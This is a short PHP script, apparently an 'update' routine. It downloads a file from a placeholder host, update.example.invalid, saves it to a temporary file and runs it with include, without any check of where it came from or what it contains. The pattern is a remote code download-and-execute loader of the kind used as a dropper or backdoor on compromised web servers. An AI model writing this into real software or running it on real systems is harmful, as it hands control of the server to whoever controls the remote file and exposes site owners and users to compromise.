<?php
$u = 'http://update.example.invalid/p.txt';
$f = tempnam(sys_get_temp_dir(), 'upd');
file_put_contents($f, file_get_contents($u));
include $f;
